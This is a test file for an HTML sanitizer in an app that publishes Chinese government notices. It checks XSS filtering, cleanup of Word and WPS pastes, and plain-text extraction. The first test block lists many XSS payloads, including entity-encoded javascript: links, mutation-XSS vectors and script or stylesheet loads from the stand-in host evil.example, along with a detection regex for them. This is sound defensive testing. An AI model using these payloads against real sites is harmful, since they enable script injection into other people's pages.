import { describe, expect, it } from 'vitest';
import { htmlToPlainText, sanitizeBodyHtml } from '../../electron/core/html-sanitizer.js';

const PNG = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const ATTACHMENT = `attachments/${'3f'.repeat(32)}`;

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'rel', 'target'],
  img: ['src', 'alt'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan'],
};
const ALLOWED_TAGS = new Set([
  'p', 'br', 'h1', 'h2', 'h3', 'h4', 'strong', 'em', 'u', 's', 'sub', 'sup', 'blockquote', 'ul', 'ol', 'li',
  'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'img', 'hr', 'code', 'pre',
]);

/** Reads every tag of the output and checks it against the allowlist, attribute by attribute. */
function expectOnlyAllowedMarkup(html: string) {
  for (const [, name = '', rest = ''] of html.matchAll(/<\/?([^\s/>]+)([^>]*)>/g)) {
    expect(ALLOWED_TAGS, `tag <${name}> in ${html}`).toContain(name);
    for (const [, attr = '', value = ''] of rest.matchAll(/([^\s=/]+)="([^"]*)"/g)) {
      expect(ALLOWED_ATTRIBUTES[name] ?? [], `attribute ${attr} on <${name}> in ${html}`).toContain(attr);
      if (attr === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
      if (attr === 'src') expect(value).toMatch(/^(?:data:image\/(?:png|jpeg|gif|webp);base64,|attachments\/[0-9a-f]{64}$)/);
    }
  }
  expect(html).not.toMatch(/<script|<style|<iframe|<object|<embed|<svg|<math|<form|<meta|<link|<base|<body/i);
  expect(html).not.toMatch(/\son\w+\s*=/i);
  expect(html).not.toMatch(/javascript:|vbscript:|data:text|srcdoc|style=|background=|@import|http:\/\/evil/i);
}

describe('sanitizeBodyHtml against script injection', () => {
  it.each([
    ['script tag', '<p>前文</p><script>alert(1)</script><p>后文</p>'],
    ['script with src', '<script src="http://evil.example/x.js"></script>'],
    ['img onerror', '<img src=x onerror=alert(1)>'],
    ['img onerror with allowed src', `<img src="${PNG}" onerror="alert(1)">`],
    ['img onerror=eval(src)', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
    ['javascript: href', '<a href="javascript:alert(1)">点击</a>'],
    ['mixed-case JaVaScRiPt: href', '<a href="JaVaScRiPt:alert(1)">点击</a>'],
    ['decimal-entity javascript: href', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点击</a>'],
    ['hex-entity javascript: href', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">点击</a>'],
    ['tab and newline inside the scheme', '<a href="jav&#x09;ascript:alert(1)">a</a><a href="java\nscript:alert(1)">b</a>'],
    ['leading spaces and control characters', '<a href=" \x01javascript:alert(1)">点击</a>'],
    ['data:text/html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点击</a>'],
    ['vbscript: href', '<a href="vbscript:msgbox(1)">点击</a>'],
    ['svg onload', '<svg onload=alert(1)><circle r=1></circle></svg>'],
    ['script inside svg', '<svg><script>alert(1)</script></svg>'],
    ['svg image via data URI', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
    ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
    ['iframe javascript: src', '<iframe src="javascript:alert(1)"></iframe>'],
    ['math with xlink:href', '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'],
    ['math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
    ['style @import', "<style>@import 'http://evil.example/x.css';</style><p>正文</p>"],
    ['body onload', '<body onload=alert(1)><p>正文</p></body>'],
    ['object data', '<object data="javascript:alert(1)"></object>'],
    ['embed src', '<embed src="javascript:alert(1)">'],
    ['form action', '<form action="javascript:alert(1)"><input type=submit value=提交><button formaction="javascript:alert(1)">按钮</button></form>'],
    ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
    ['base href', '<base href="javascript:alert(1)//"><a href="/x">相对链接</a>'],
    ['style attribute with javascript: url', '<p style="background:url(javascript:alert(1))">正文</p>'],
    ['details ontoggle', '<details open ontoggle=alert(1)><summary>摘要</summary>内容</details>'],
    ['marquee onstart', '<marquee onstart=alert(1)>滚动</marquee>'],
    ['table background', '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">格</td></tr></table>'],
    ['remote image', '<img src="http://evil.example/track.gif"><img src="https://evil.example/t.png"><img src="//evil.example/t.png">'],
    ['stylesheet link', '<link rel=stylesheet href="http://evil.example/x.css">'],
    ['split script tag', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
    ['unclosed script', '<p>正文</p><script>alert(1)'],
    ['IE conditional comment', '<!--[if IE]><script>alert(1)</script><![endif]--><p>正文</p>'],
    ['comment breakout', '<!--><img src=x onerror=alert(1)>--><p>正文</p>'],
    ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
    ['textarea mutation', '<textarea><img src=x onerror=alert(1)></textarea>'],
    ['xmp and title raw text', '<xmp><img src=x onerror=alert(1)></xmp><title><img src=x onerror=alert(1)></title>'],
    ['handlers on allowed tags', '<p onclick="alert(1)">段</p><a href="https://gov.cn" onmouseover="alert(1)">链</a><td onmouseover=alert(1)>'],
    ['entity-encoded markup stays text', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>'],
    ['event handler without quotes or space', '<img/src=x/onerror=alert(1)>'],
    ['template content', '<template><img src=x onerror=alert(1)></template>'],
  ])('%s', (_name, payload) => {
    const out = sanitizeBodyHtml(payload);
    expectOnlyAllowedMarkup(out);
    expect(sanitizeBodyHtml(out)).toBe(out);
  });

  it('keeps the harmless text around the payloads', () => {
    expect(sanitizeBodyHtml('<p>前文</p><script>alert(1)</script><p>后文</p>')).toBe('<p>前文</p><p>后文</p>');
    expect(sanitizeBodyHtml('<a href="javascript:alert(1)">点击</a>')).toBe('点击');
    expect(sanitizeBodyHtml('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
    expect(sanitizeBodyHtml('<details open ontoggle=alert(1)><summary>摘要</summary>内容</details>')).toBe('<p>摘要</p>内容');
  });
});

const WORD_PASTE = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=ProgId content=Word.Document><meta name=Generator content="Microsoft Word 15">
<link rel=File-List href="file:///C:/Users/ADMINI~1/AppData/Local/Temp/msohtmlclip1/01/clip_filelist.xml">
<!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]-->
<style><!-- p.MsoNormal {mso-style-unhide:no; font-family:等线;} --></style>
<title>Word</title>
</head>
<body lang=ZH-CN style='tab-interval:21.0pt;text-justify-trim:punctuation'>
<!--StartFragment-->
<p class=MsoNormal align=center style='text-align:center'><b><span style='font-size:22.0pt;font-family:方正小标宋简体;mso-hansi-font-family:"Times New Roman"'>关于做好2026年政务公开工作的通知<span lang=EN-US><o:p></o:p></span></span></b></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoNormal style='text-indent:32.0pt;mso-char-indent-count:2.0'><span style='font-size:16.0pt;font-family:仿宋_GB2312'>各镇人民政府，市府直属各单位：<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoNormal style='text-indent:32.0pt;mso-char-indent-count:2.0'><span
style='font-size:16.0pt;font-family:仿宋_GB2312'>根据《中华人民共和国政府信息公开条例》（国务院令第<span lang=EN-US>711</span>号）规定，现将有关事项通知
如下：<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoListParagraph style='margin-left:18.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US style='mso-fareast-font-family:仿宋_GB2312'><span style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp; </span></span></span><![endif]><span style='font-family:仿宋_GB2312'>加强<i>组织</i>领导。<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoNormal><span lang=EN-US><v:shape id="_x0000_i1025" type="#_x0000_t75" style='width:100pt'><v:imagedata src="file:///C:/Users/ADMINI~1/AppData/Local/Temp/msohtmlclip1/01/clip_image001.png" o:title=""/></v:shape></span><![if !vml]><img width=133 height=100 src="file:///C:/Users/ADMINI~1/AppData/Local/Temp/msohtmlclip1/01/clip_image002.png" v:shapes="_x0000_i1025"><![endif]></p>
<table class=MsoTableGrid border=1 cellspacing=0 cellpadding=0 style='border-collapse:collapse;border:none;mso-yfti-tbllook:1184'>
 <tr style='mso-yfti-irow:0;mso-yfti-firstrow:yes'>
  <td width=277 valign=top style='width:207.4pt;border:solid windowtext 1.0pt'><p class=MsoNormal><span style='font-family:仿宋_GB2312'>单位<span lang=EN-US><o:p></o:p></span></span></p></td>
  <td width=277 colspan=2 valign=top style='width:207.4pt'><p class=MsoNormal><span style='font-family:仿宋_GB2312'>联系人<span lang=EN-US><o:p></o:p></span></span></p></td>
 </tr>
 <tr style='mso-yfti-irow:1;mso-yfti-lastrow:yes'>
  <td width=277 valign=top><p class=MsoNormal><span>市政务服务数据管理局<o:p></o:p></span></p></td>
  <td width=138 valign=top><p class=MsoNormal><span>张三<o:p></o:p></span></p></td>
  <td width=138 valign=top><p class=MsoNormal><span lang=EN-US>0759-1234567<o:p></o:p></span></p></td>
 </tr>
</table>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoNormal align=right style='text-align:right'><span style='font-family:仿宋_GB2312'>雷州市人民政府办公室<span lang=EN-US><o:p></o:p></span></span></p>
<p class=MsoNormal align=right style='text-align:right'><span lang=EN-US>2026</span><span>年<span lang=EN-US>3</span>月<span lang=EN-US>5</span>日</span></p>
<!--EndFragment-->
</body>
</html>`;

// WPS writes its list markers and Word-isms inside ordinary comments, and styles every span.
const WPS_PASTE = `<meta charset="utf-8"><div class="Section0" style="layout-grid:15.6000pt;">
<p class="MsoNormal" style="text-indent:32.0000pt;mso-char-indent-count:2.0000;"><span style="mso-spacerun:'yes';font-family:仿宋_GB2312;font-size:16.0000pt;"><font face="仿宋_GB2312">一、公开内容</font></span><span style="font-family:仿宋_GB2312;font-size:16.0000pt;"><o:p></o:p></span></p>
<p class="MsoNormal" style="text-indent:32.0000pt;"><!--[if !supportLists]--><span style="font-family:仿宋_GB2312;">（一）</span><!--[endif]--><span style="font-family:仿宋_GB2312;" lang="EN-US" xml:lang="EN-US">财政预决算信息。</span></p>
<p class="MsoNormal"><span style="font-family:仿宋_GB2312;">&nbsp;</span></p>
</div>`;

describe('sanitizeBodyHtml on pastes from Word and WPS', () => {
  it('turns a Word paste into plain semantic HTML', () => {
    expect(sanitizeBodyHtml(WORD_PASTE)).toBe(
      '<p><strong>关于做好2026年政务公开工作的通知</strong></p>' +
        '<p>各镇人民政府，市府直属各单位：</p>' +
        '<p>根据《中华人民共和国政府信息公开条例》（国务院令第711号）规定，现将有关事项通知如下：</p>' +
        '<p>1.\u00a0\u00a0\u00a0 加强<em>组织</em>领导。</p>' +
        '<table><tr><td><p>单位</p></td><td colspan="2"><p>联系人</p></td></tr>' +
        '<tr><td><p>市政务服务数据管理局</p></td><td><p>张三</p></td><td><p>0759-1234567</p></td></tr></table>' +
        '<p>雷州市人民政府办公室</p>' +
        '<p>2026年3月5日</p>',
    );
  });

  it('turns a WPS paste into plain semantic HTML', () => {
    expect(sanitizeBodyHtml(WPS_PASTE)).toBe('<p>一、公开内容</p><p>（一）财政预决算信息。</p>');
  });

  it.each([
    ['Word', WORD_PASTE],
    ['WPS', WPS_PASTE],
  ])('keeps all the text of the %s paste and nothing of its markup', (_name, paste) => {
    const out = sanitizeBodyHtml(paste);
    expectOnlyAllowedMarkup(out);
    expect(out).not.toMatch(/mso|Mso|class=|lang=|<span|<o:p|<font|<div|&nbsp;<\/p>|<!--|<!\[|file:/);
    expect(htmlToPlainText(out)).toBe(htmlToPlainText(paste));
    expect(sanitizeBodyHtml(out)).toBe(out);
  });

  it.each([
    ['empty paragraphs', '<p>一</p><p></p><p>&nbsp;</p><p>\u3000\u3000</p><p><br></p><p><span> </span></p><p>二</p>', '<p>一</p><p>二</p>'],
    ['an image is not empty', `<p><img src="${PNG}"></p>`, `<p><img src="${PNG}" /></p>`],
    ['empty inline formatting', '<p>一<strong></strong><em>二</em></p>', '<p>一<em>二</em></p>'],
    ['layout divs with inline content become paragraphs', '<div>一</div><div>二<br>三</div>', '<p>一</p><p>二<br />三</p>'],
    ['layout divs around paragraphs are unwrapped', '<div class="WordSection1"><div><p>一</p></div><p>二</p></div>', '<p>一</p><p>二</p>'],
    ['no paragraph inside a paragraph', '<p>一<span><div>二</div></span>三</p>', '<p>一二三</p>'],
    ['Word wraps long Chinese lines', '<p>现将有关\r\n事项通知<b>如下</b>\r\n：</p>', '<p>现将有关事项通知<strong>如下</strong>：</p>'],
    ['but a line break between words is a space', '<p>Open\ngovernment</p>', '<p>Open\ngovernment</p>'],
    ['pre keeps its line breaks', '<pre>第一行\n第二行</pre>', '<pre>第一行\n第二行</pre>'],
    ['one spelling per meaning', '<b>粗</b><i>斜</i><strike>删</strike><h5>五</h5><h6>六</h6>', '<strong>粗</strong><em>斜</em><s>删</s><h4>五</h4><h4>六</h4>'],
    ['anchors without a link keep their text', '<p><a name="_Toc1">目录</a><a href="#_Toc1">跳转</a><a href="/relative">相对</a></p>', '<p>目录跳转相对</p>'],
    ['namespaced Word tags keep their text', '<p><st1:chsdate Year="2026" Month="3" Day="5" w:st="on">2026年3月5日</st1:chsdate><o:p></o:p></p>', '<p>2026年3月5日</p>'],
    ['cells without a table', '<td>甲</td><tr><td>乙</td></tr>', '甲乙'],
    ['a rejected link keeps its paragraph', '<p><a href="javascript:alert(1)">链接</a></p>', '<p>链接</p>'],
    ['a paragraph left with only a rejected image goes', '<p><img src="http://evil.example/x.png"></p><p>正文</p>', '<p>正文</p>'],
    ['the indent of bare text is content', '\n\u3000\u3000正文\n', '\u3000\u3000正文'],
    ['span sizes are numbers', '<table><tr><td colspan="2" rowspan="x">甲</td><td colspan="0">乙</td></tr></table>', '<table><tr><td colspan="2">甲</td><td>乙</td></tr></table>'],
  ])('%s', (_name, input, expected) => {
    expect(sanitizeBodyHtml(input)).toBe(expected);
  });
});

describe('sanitizeBodyHtml on large input', () => {
  it('cleans a long Word paste in linear time', () => {
    const paste = WORD_PASTE.repeat(1600); // 5.7 MB; quadratic clean-up took 15 s here
    const started = performance.now();
    const out = sanitizeBodyHtml(paste);
    expect(performance.now() - started).toBeLessThan(8000);
    expect(out.match(/<table>/g)).toHaveLength(1600);
  });

  it('keeps a large embedded image whole', () => {
    const src = `data:image/png;base64,${'A'.repeat(4_000_000)}`;
    expect(sanitizeBodyHtml(`<p>附图：<img src="${src}"></p>`)).toBe(`<p>附图：<img src="${src}" /></p>`);
  });
});

describe('sanitizeBodyHtml keeps what a notice needs', () => {
  it.each([
    ['headings', '<h1>一</h1><h2>二</h2><h3>三</h3><h4>四</h4>'],
    ['inline formatting', '<p><strong>粗</strong><em>斜</em><u>下划线</u><s>删除</s>H<sub>2</sub>O m<sup>2</sup><code>x</code></p>'],
    ['lists', '<ul><li>甲</li><li>乙<ol><li>子项</li></ol></li></ul>'],
    ['quotes, rules and code', '<blockquote><p>引文</p></blockquote><hr /><pre><code>代码</code></pre>'],
    ['tables with spans', '<table><thead><tr><th colspan="2">表头</th></tr></thead><tbody><tr><td rowspan="2">甲</td><td>乙</td></tr><tr><td>丙</td></tr></tbody></table>'],
    ['links', '<p><a href="https://www.gov.cn/zhengce/" rel="noopener noreferrer" target="_blank">中国政府网</a> <a href="mailto:gkb@example.gov.cn" rel="noopener noreferrer" target="_blank">来信</a></p>'],
    ['embedded and attached images', `<p><img src="${PNG}" alt="示意图" /><img src="${ATTACHMENT}" /></p>`],
  ])('%s', (_name, html) => {
    expect(sanitizeBodyHtml(html)).toBe(html);
  });

  it('adds rel and target to every link, whatever was there', () => {
    expect(sanitizeBodyHtml('<a href="https://gov.cn" target="_self" rel="opener">链</a>')).toBe(
      '<a href="https://gov.cn" rel="noopener noreferrer" target="_blank">链</a>',
    );
  });

  it.each([
    ['jpeg', 'data:image/jpeg;base64,/9j/4AAQ'],
    ['gif', 'data:image/gif;base64,R0lGODlh'],
    ['webp', 'data:image/webp;base64,UklGRg=='],
  ])('accepts embedded %s images', (_kind, src) => {
    expect(sanitizeBodyHtml(`<img src="${src}">`)).toBe(`<img src="${src}" />`);
  });

  it.each([
    ['bmp', 'data:image/bmp;base64,Qk0='],
    ['not base64', 'data:image/png,<svg>'],
    ['a path outside attachments', `../attachments/${'3f'.repeat(32)}`],
    ['a short hash', 'attachments/3f3f'],
    ['a local file', 'file:///C:/clip_image001.png'],
  ])('drops images that are %s', (_kind, src) => {
    expect(sanitizeBodyHtml(`<p>图<img src="${src}"></p>`)).toBe('<p>图</p>');
  });
});

describe('htmlToPlainText', () => {
  it.each([
    ['paragraphs', '<p>第一段。</p><p>第二段。</p>', '第一段。\n第二段。'],
    ['全角 indents and nbsp', '<p>\u3000\u3000根据规定，&nbsp;现予公开。</p>', '根据规定， 现予公开。'],
    ['entities', '<p>甲&amp;乙 &lt;丙&gt; &quot;丁&quot; &ldquo;戊&rdquo; &#x4E2D;</p>', '甲&乙 <丙> "丁" “戊” 中'],
    ['line breaks', '<p>第一行<br>第二行<br/><br/>第三行</p>', '第一行\n第二行\n第三行'],
    ['headings and lists', '<h1>标题</h1><ul><li>甲</li><li>乙</li></ul>', '标题\n甲\n乙'],
    ['inline markup joins', '<p>政务<strong>公开</strong><em>工作</em></p>', '政务公开工作'],
    [
      'tables: a row per line, cells by tab',
      '<table><tr><th>单位</th><th>联系人</th><th>电话</th></tr><tr><td><p>市政务服务数据管理局</p><p>（本级）</p></td><td></td><td>0759-1234567</td></tr></table>',
      '单位\t联系人\t电话\n市政务服务数据管理局 （本级）\t\t0759-1234567',
    ],
    ['source line breaks', '<p>现将有关\n  事项通知如下：\nOpen\ngovernment</p>', '现将有关事项通知如下： Open government'],
    ['pre', '<pre>第一行\n  第二行</pre>', '第一行\n第二行'],
    ['scripts, styles and comments say nothing', '<style>p{}</style><p>正文</p><script>alert(1)</script><!-- 注释 --><svg><text>图</text></svg>', '正文'],
    ['layout wrappers', '<div>甲</div><div><div>乙</div>丙</div>', '甲\n乙\n丙'],
    ['plain text', '没有标签的文字', '没有标签的文字'],
    ['nothing', '', ''],
  ])('%s', (_name, html, text) => {
    expect(htmlToPlainText(html)).toBe(text);
  });

  it('reads the Word paste line by line', () => {
    expect(htmlToPlainText(WORD_PASTE)).toBe(
      [
        '关于做好2026年政务公开工作的通知',
        '各镇人民政府，市府直属各单位：',
        '根据《中华人民共和国政府信息公开条例》（国务院令第711号）规定，现将有关事项通知如下：',
        '1. 加强组织领导。',
        '单位\t联系人',
        '市政务服务数据管理局\t张三\t0759-1234567',
        '雷州市人民政府办公室',
        '2026年3月5日',
      ].join('\n'),
    );
  });
});
